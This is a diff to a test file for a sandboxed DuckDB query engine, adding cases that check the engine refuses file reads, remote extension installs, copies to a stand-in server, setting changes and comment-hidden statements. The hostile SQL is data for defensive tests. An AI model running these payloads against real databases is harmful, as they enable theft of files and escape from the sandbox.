@@ -1,58 +1,25 @@
 /** Every way out of a question: files, network, extensions, settings, other captures, and statements that change something. */
-import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
+import { readdirSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { AppFailure } from '../../shared/contracts/errors.ts';
-import type { SqlSourceRef } from '../../shared/contracts/sql-process.ts';
-import { literal, openDatabase, type Database } from './database.ts';
-import { createEngine, type Engine } from './engine.ts';
-import { definitionOf } from './stored-tables.ts';
+import { isRefusedFunction } from './allowed-functions.ts';
+import { literal } from './database.ts';
+import { createHostileBench, OTHER, OWN, SECRET, type HostileBench } from './testing/hostile-bench.ts';
 
-const folder = mkdtempSync(join(tmpdir(), 'pen-hostile-'));
-const secret = join(folder, 'secret.csv');
-const A: SqlSourceRef = { schema: 'a', source: 'heap', key: 'first', captureId: null };
-const running = { signal: new AbortController().signal, timeLimitMs: 10_000 };
-/** A table without rows. */
-const emptyTable = (table: string) => ({
-  rowCount: 0,
-  columns: (definitionOf('heap', table)?.columns ?? []).map(({ name }) => name),
-  forms: [],
-  lists: [],
-  slices: [],
-});
-
-let database: Database;
-let engine: Engine;
+let bench: HostileBench;
+/** As they are in the texts of the questions: of the file, its folder, the server. */
+const [FILE, FOLDER, SERVER] = ["'FILE'", 'FOLDER', 'http://SERVER'];
 
 beforeAll(async () => {
-  writeFileSync(secret, 'name\nhunter2\n');
-  const empty = join(folder, 'empty');
-  writeFileSync(empty, '');
-  const memoryLimitBytes = 128 * 1024 ** 2;
-  database = await openDatabase({ memoryLimitBytes, directory: folder });
-  engine = await createEngine({ database, memoryLimitBytes, now: () => performance.now() });
-  for (const table of ['node', 'class'])
-    await engine.load('heap', 'first', table, { filePath: empty, layout: emptyTable(table) }, running.signal);
-  await engine.load('heap', 'other', 'class', { filePath: empty, layout: emptyTable('class') }, running.signal);
+  bench = await createHostileBench();
 });
+afterAll(() => bench.close());
 
-afterAll(() => {
-  engine.close();
-  rmSync(folder, { recursive: true });
-});
-
-/** The code of the refusal; the rows if there is none. */
-async function outcomeOf(sql: string): Promise<unknown> {
-  try {
-    return (await engine.run({ sql, sources: [A] }, 10, running))?.rows;
-  } catch (thrown) {
-    if (thrown instanceof AppFailure) return thrown.error.code;
-    throw thrown;
-  }
+function filled(sql: string): string {
+  return sql.replaceAll(FILE, literal(bench.file)).replaceAll(FOLDER, bench.folder).replaceAll(SERVER, bench.server);
 }
 
-const FILE = literal(secret);
+const outcomeOf = (sql: string): Promise<unknown> => bench.outcomeOf(filled(sql));
 
 describe('a question is refused that', () => {
   it.each([
@@ -62,7 +29,7 @@ describe('a question is refused that', () => {
     `select * from read_blob(${FILE})`,
     `select * from read_json(${FILE})`,
     `select * from parquet_scan(${FILE})`,
-    `select * from glob(${literal(join(folder, '*'))})`,
+    `select * from glob('${FOLDER}/*')`,
     `select * from sniff_csv(${FILE})`,
     `with t as (select * from read_csv(${FILE})) select * from t`,
     `select (select max(name) from read_csv(${FILE})) from class`,
@@ -70,11 +37,11 @@ describe('a question is refused that', () => {
     `select * from class order by (select count(*) from read_text(${FILE}))`,
     `explain analyze select * from read_csv(${FILE})`,
     `describe select * from read_csv(${FILE})`,
-    `copy class to ${literal(join(folder, 'out.csv'))}`,
-    `copy (select 1) to ${literal(join(folder, 'out.csv'))}`,
+    `copy class to '${FOLDER}/out.csv'`,
+    `copy (select 1) to '${FOLDER}/out.csv'`,
     `copy class from ${FILE}`,
-    `explain analyze copy (select 1) to ${literal(join(folder, 'out.csv'))}`,
-    `attach ${literal(join(folder, 'new.db'))}`,
+    `explain analyze copy (select 1) to '${FOLDER}/out.csv'`,
+    `attach '${FOLDER}/new.db'`,
     `attach ':memory:' as other`,
     `detach memory`,
     'use b',
@@ -88,8 +55,8 @@ describe('a question is refused that', () => {
     'reset lock_configuration',
     "set variable x = 'y'",
     'call pragma_version()',
-    `export database ${literal(folder)}`,
-    `import database ${literal(folder)}`,
+    `export database '${FOLDER}'`,
+    `import database '${FOLDER}'`,
     'create table t (x integer)',
     'create macro f(x) as x',
     'create or replace view class as select 1',
@@ -135,13 +102,58 @@ describe('a question is refused that', () => {
     '',
     '-- nothing',
     'describe',
+    "select json_serialize_plan('select 1')",
+    'select pg_get_viewdef(1)',
+    'select sleep_ms(1)',
+    'select * from pragma_table_info($$class$$)',
+    "select * from parquet_metadata('FILE')",
+    'select * from (show tables)',
+    'select * from (show databases)',
+    'select name, "query"($$select 1$$) from class',
+    'select $$HOME$$.getenv()',
+    'select system.main.current_setting($$temp_directory$$)',
+    'explain (format json, verbose) select 1',
+    'explain pragma version',
+    'explain describe class',
+    'select sum(1) export_state',
   ])('%s', async (sql) => {
     expect(await outcomeOf(sql)).toMatch(/^sql_(refused|invalid)$/);
   });
 
+  // One reader of the text sees a select where another sees the statement.
+  it.each(
+    [
+      (statement: string) => `explain (analyze /* ) select 1 -- */) ${statement}`,
+      (statement: string) => `explain --\ranalyze ${statement} --\n select 1`,
+      (statement: string) => `explain --\r${statement} --\n select 1`,
+      (statement: string) => `explain (analyze --)\n) ${statement}`,
+      (statement: string) => `explain analyze /* /* */ select 1 -- */ ${statement}`,
+      (statement: string) => `--\rexplain ${statement}\n--\nselect 1`,
+    ].flatMap((hide) =>
+      [
+        "install leak from 'http://SERVER/hidden'",
+        "call enable_logging(storage='file', storage_config={'path': 'FOLDER/log'})",
+        "copy (select 1) to 'FOLDER/copied/x.csv'",
+        'create table t (x integer)',
+        'set variable x = 1',
+        'select * from duckdb_settings()',
+      ].map((statement) => hide(statement)),
+    ),
+  )('hides a statement: %j', async (sql) => {
+    const files = readdirSync(bench.folder, { recursive: true });
+    const outcome = await outcomeOf(sql);
+    // What is left may be a plan of a harmless select.
+    const told = typeof outcome === 'string' ? outcome : `plan ${JSON.stringify(outcome)}`;
+    expect(told).toMatch(/^(sql_refused|sql_invalid|plan .*)$/s);
+    expect(told).not.toMatch(/duckdb_settings|enable_logging/i);
+    expect(bench.requests()).toEqual([]);
+    expect(readdirSync(bench.folder, { recursive: true })).toEqual(files);
+    expect(await outcomeOf('select 1')).toEqual([[1]]);
+  });
+
   it.each([
     `select * from ${FILE}`,
-    `select * from "${secret}"`,
+    `select * from "${FOLDER}/secret.csv"`,
     `select * from ${literal('https://example.test/x.parquet')}`,
     'select * from information_schema.tables',
     'select * from pg_catalog.pg_class',
@@ -160,9 +172,9 @@ describe('a question is refused that', () => {
   });
 
   it('leaves no file', async () => {
-    const before = readdirSync(folder, { recursive: true });
-    await outcomeOf(`copy (select 1) to ${literal(join(folder, 'out.csv'))}`);
-    expect(readdirSync(folder, { recursive: true })).toEqual(before);
+    const before = readdirSync(bench.folder, { recursive: true });
+    await outcomeOf(`copy (select 1) to '${FOLDER}/out.csv'`);
+    expect(readdirSync(bench.folder, { recursive: true })).toEqual(before);
   });
 });
 
@@ -170,31 +182,147 @@ describe('behind the check of the text, the database', () => {
   it.each([
     `select * from read_csv(${FILE})`,
     `select * from ${FILE}`,
-    `select * from glob(${literal(join(folder, '*'))})`,
-    "select * from read_csv('http://127.0.0.1:9/x.csv')",
-    `copy (select 1) to ${literal(join(folder, 'out.csv'))}`,
-    `attach ${literal(join(folder, 'new.db'))}`,
+    `select * from glob('${FOLDER}/*')`,
+    `select * from read_csv('${SERVER}/x.csv')`,
+    `from '${SERVER}/x.parquet'`,
+    `copy (select 1) to '${SERVER}/x.csv'`,
+    `attach '${SERVER}/x.db'`,
+    `install leak from '${SERVER}/x'`,
+    `force install leak from '${SERVER}/x'`,
+    `install '${SERVER}/x/leak.duckdb_extension'`,
+    'install leak from community',
+    'update extensions',
+    `copy (select 1) to '${FOLDER}/copied/out.csv'`,
+    `copy (select 1) to '${FOLDER}/copied'`,
+    `copy (select 1 as x, 2 as y) to '${FOLDER}/copied/new' (format csv, partition_by (x))`,
+    `copy (select 1) to '${FOLDER}/copied/new' (format csv, per_thread_output true)`,
+    `copy (select 1) to '${FOLDER}/no-folder'`,
+    `copy (select 1) to '${FOLDER}/out.csv'`,
+    `attach '${FOLDER}/new.db'`,
     'install httpfs',
     'load httpfs',
     'set enable_external_access = true',
     'set lock_configuration = false',
     "set temp_directory = '/'",
     "set memory_limit = '100GB'",
-    `set allowed_directories = [${literal(folder)}]`,
+    `set allowed_directories = ['${FOLDER}']`,
     'set autoload_known_extensions = true',
     'set threads = 8',
-    `export database ${literal(join(folder, 'exported'))}`,
+    `export database '${FOLDER}/exported'`,
     "create persistent secret s (type s3, key_id 'x', secret 'y')",
   ])('refuses %s', async (sql) => {
-    const connection = await database.connect();
-    await expect(connection.run(sql)).rejects.toThrow(/./);
+    const connection = await bench.database.connect();
+    const files = readdirSync(bench.folder, { recursive: true });
+    await expect(connection.run(filled(sql))).rejects.toThrow(/./);
+    expect(bench.requests()).toEqual([]);
+    expect(readdirSync(bench.folder, { recursive: true })).toEqual(files);
+    connection.closeSync();
+  });
+
+  it('has a folder for temporary data whose name cannot be guessed', () => {
+    const names = readdirSync(bench.folder).filter((name) => name.startsWith('spill'));
+    expect(names).toEqual([expect.stringMatching(/^spill-[0-9a-f]{32}$/)]);
+  });
+
+  it('opens the folder for exports for an export only', async () => {
+    const connection = await bench.database.connect();
+    const names = await bench.database.exporting(async (folder) => {
+      await connection.run(`copy (select 1 as x) to ${literal(join(folder, 'x.csv'))}`);
+      return readdirSync(folder);
+    });
+    expect(names).toEqual(['x.csv']);
+    const late = connection.run(`copy (select 1 as x) to '${bench.folder}/copied/x.csv'`);
+    await expect(late).rejects.toThrow(/./);
     connection.closeSync();
   });
 
   it('changes nothing in a transaction that reads', async () => {
-    const connection = await database.connect();
+    const connection = await bench.database.connect();
     await connection.run('BEGIN TRANSACTION READ ONLY');
     await expect(connection.run('create table main.t (x integer)')).rejects.toThrow(/read-only/);
+    connection.closeSync();
+  });
+});
+
+describe('a question sees only its own captures', () => {
+  it('while another one has others', async () => {
+    expect(await bench.outcomeOf('select count(*) from header', [OTHER])).toEqual([[3000]]);
+  });
+
+  it.each([
+    'select (with header as (select 1 x) select max(x) from header), name, value from header',
+    'with header as (select 1 as x) select * from a.header',
+    'select (with duckdb_views as (select 1 x) select max(x) from duckdb_views), sql from duckdb_views',
+    'select (with duckdb_tables as (select 1 x) select max(x) from duckdb_tables), table_name from duckdb_tables',
+    'select (with tables as (select 1 x) select max(x) from tables), table_name from information_schema.tables',
+    'select (with pg_class as (select 1 x) select max(x) from pg_class), relname from pg_class',
+    'select (with "TABLE 1" as (select 1) select 1), * from "table 3".header',
+    'select * from pg_catalog.pg_views',
+    'select * from system.main.duckdb_views',
+    'select * from memory."table 3".header',
+    'select * from "question 1".a.header',
+    'with recursive sqlite_master as (select 1 as n union all select n + 1 from sqlite_master where n < 2) select (select 1 from sqlite_master limit 1), (select max(name) from (select * from main.sqlite_master))',
+    'select enum_range(null::"table 3"."header.value")',
+    'select enum_range(null::memory."table 3"."header.value")',
+    `select enum_range(from_json('null', '"\\"table 3\\".\\"header.value\\""'))`,
+    `select json_transform('null', '"memory.\\"table 3\\".\\"header.value\\""')`,
+    'select nextval($$s$$)',
+  ])('%s', async (sql) => {
+    const outcome = await outcomeOf(sql);
+    expect(outcome).toMatch(/^sql_(refused|invalid)$/);
+  });
+
+  it('reads no name of another capture in its errors', async () => {
+    const sql = 'select (with header as (select 1 x) select max(x) from header), heade from header';
+    const asked = bench.engine.run({ sql, sources: [OWN] }, 1, {
+      signal: new AbortController().signal,
+      timeLimitMs: 10_000,
+    });
+    await expect(asked).rejects.toMatchObject({
+      error: {
+        code: 'sql_invalid',
+        message: 'There is no table header here: its with clause is in another part of the question.',
+        data: { line: 1, column: 76 },
+      },
+    });
+  });
+
+  it('leaves no catalog, no type and no text of another capture behind', async () => {
+    const connection = await bench.database.connect();
+    const names = async (sql: string) => (await connection.runAndReadAll(sql)).getRows().map(([name]) => name);
+    expect(await names('select database_name from duckdb_databases() where not internal')).toEqual(['memory']);
+    expect(await names("select type_name from duckdb_types() where logical_type = 'ENUM' and not internal")).toEqual(
+      [],
+    );
+    expect(await names('select view_name from duckdb_views() where not internal')).toEqual([]);
+    expect(await names('select distinct value from "table 3".header')).toEqual([SECRET]);
+    connection.closeSync();
+  });
+});
+
+describe('the functions of DuckDB', () => {
+  /** What looks at more than its arguments, and may. */
+  const HARMLESS = [
+    'current_catalog current_database current_date current_role current_schema current_schemas current_user',
+    'error gen_random_uuid get_current_time get_current_timestamp in_search_path now random session_user',
+    'today transaction_timestamp user uuid uuidv4 uuidv7',
+  ].flatMap((line) => line.split(' '));
+
+  it('are refused if they read the catalog, settings or the time of a question, but for harmless ones', async () => {
+    const connection = await bench.database.connect();
+    const found = await connection.runAndReadAll(`
+      select distinct function_name from duckdb_functions()
+      where function_type = 'scalar' and stability != 'CONSISTENT'
+      or function_type = 'macro' and macro_definition similar to '(?i).*(select|duckdb_|pragma_).*'`);
+    const names = found.getRows().map(([name]) => String(name));
+    expect(names.filter((name) => !isRefusedFunction(name) && !HARMLESS.includes(name))).toEqual([]);
+    connection.closeSync();
+  });
+
+  it('are those of the version whose list was read', async () => {
+    const connection = await bench.database.connect();
+    // If this fails: compare duckdb_functions() of the two versions, then complete the lists of allowed-functions.ts.
+    expect((await connection.runAndReadAll('select version()')).getRows()).toEqual([['v1.5.5']]);
     connection.closeSync();
   });
 });
@@ -206,6 +334,41 @@ describe('a question is allowed that', () => {
     ['select 1;', [[1]]],
     ['with recursive t(n) as (select 1 union all select n + 1 from t where n < 3) select max(n) from t', [[3]]],
     ['with class as (select 7 as n) select n from class', [[7]]],
+    ['with class as (select name from class) select count(*) from class', [[0]]],
+    ['with t(x) as (select 1) select t.x, (select max(T.x) from t) from t', [[1, 1]]],
+    ['with t as (select 1 as x), u as (select t.x + 1 as y from t) select u.y, t from t, u', [[2, "{'x': 1}"]]],
+    ['with duckdb_views as (select 1 as x) select duckdb_views.x from duckdb_views', [[1]]],
+    ['with recursive T as (select 1 as n union all select t.n + 1 from t where t.n < 3) select max(n) from T', [[3]]],
+    [
+      "select * from (values (1, 'a'), (2, 'b')) v(id, name)",
+      [
+        [1, 'a'],
+        [2, 'b'],
+      ],
+    ],
+    [
+      'select * from range(2) a(x) cross join range(2) b(y) join range(1, 3) c(y) using (y) order by all',
+      [
+        [0, 1],
+        [1, 1],
+      ],
+    ],
+    [
+      'select x, y, z from (select [1, 2] as l) a cross join unnest(a.l) u(x) cross join (values (7)) v(y) left join range(3) w(z) on z = x',
+      [
+        [1, 7, 1],
+        [2, 7, 2],
+      ],
+    ],
+    ['select 1 where true is true and false is not true', [[1]]],
+    [
+      'select typeof(1e6), typeof(1.5), 1e-300 < 1e6, 1e400 > 1, -1e400 < 0',
+      [['DOUBLE', 'DECIMAL(2,1)', true, true, true]],
+    ],
+    [
+      'select 9223372036854775807, 170141183460469231731687303715884105727',
+      [['9223372036854775807', '170141183460469231731687303715884105727']],
+    ],
     ['select unnest([1, 2])', [[1], [2]]],
     ['select * from range(2)', [[0], [1]]],
     ["select 'drop table class; copy'", [['drop table class; copy']]],
@@ -225,5 +388,9 @@ describe('a question is allowed that', () => {
   it('explains a question', async () => {
     expect(await outcomeOf('explain (format json) select * from class')).toHaveLength(1);
     expect(await outcomeOf('explain analyze select * from class')).toHaveLength(1);
+    expect(await outcomeOf('explain (analyze, format json) (select * from class)')).toHaveLength(1);
+    expect(await outcomeOf('/* a */ explain --b\r analyze -- c\n with t as (select 1) select * from t')).toHaveLength(
+      1,
+    );
   });
 });
